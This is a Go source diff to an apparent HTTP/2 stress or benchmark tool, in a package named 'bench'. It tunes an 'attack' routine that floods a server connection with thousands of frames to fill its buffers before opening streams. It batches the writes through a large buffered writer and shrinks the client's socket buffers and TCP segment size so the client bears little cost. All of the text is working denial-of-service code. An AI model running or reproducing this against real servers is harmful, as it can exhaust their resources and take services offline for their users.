@@ -1,11 +1,11 @@
 package bench
 
 import (
+	"bufio"
 	"bytes"
 	"cmp"
 	"context"
 	"fmt"
-	"io"
 	"net"
 	"strings"
 	"syscall"
@@ -51,15 +51,18 @@ func (a *attack) withhold(ctx context.Context, i *Installation, answer func(stat
 // body that waits for a window, so it has to wait for those.
 func (a *attack) askTemporal(ctx context.Context, conn net.Conn, address string, answer func(status string)) {
 	const pings = 8_000 // they fill the buffers; when 10,000 wait, the server ends the connection
-	framer := http2.NewFramer(conn, conn)
+	out := bufio.NewWriterSize(conn, 64<<10)
+	framer := http2.NewFramer(out, conn)
 	request := http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.headers(address), EndHeaders: true,
 		EndStream: true}
-	_, err := io.WriteString(conn, http2.ClientPreface)
+	_, err := out.WriteString(http2.ClientPreface)
 	if cmp.Or(err, framer.WriteSettings()) != nil {
 		return
 	}
 	for n := 0; ; n++ {
 		switch {
+		case n >= pings && out.Flush() != nil:
+			return
 		case n >= pings && n < pings+temporalStreams:
 			if framer.WriteHeaders(request) != nil {
 				return
@@ -73,9 +76,11 @@ func (a *attack) askTemporal(ctx context.Context, conn net.Conn, address string,
 }
 
 // smallBuffers has the kernel keep little that was not read: of the client's, and of the server's by small segments.
+// What only waits to be sent would cost this machine more than the server ever reads.
 func smallBuffers(_, _ string, c syscall.RawConn) (err error) {
 	unreached := c.Control(func(socket uintptr) {
 		err = cmp.Or(syscall.SetsockoptInt(int(socket), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 2<<10),
+			syscall.SetsockoptInt(int(socket), syscall.SOL_SOCKET, syscall.SO_SNDBUF, 16<<10),
 			syscall.SetsockoptInt(int(socket), syscall.IPPROTO_TCP, syscall.TCP_MAXSEG, 1400))
 	})
 	return cmp.Or(unreached, err)
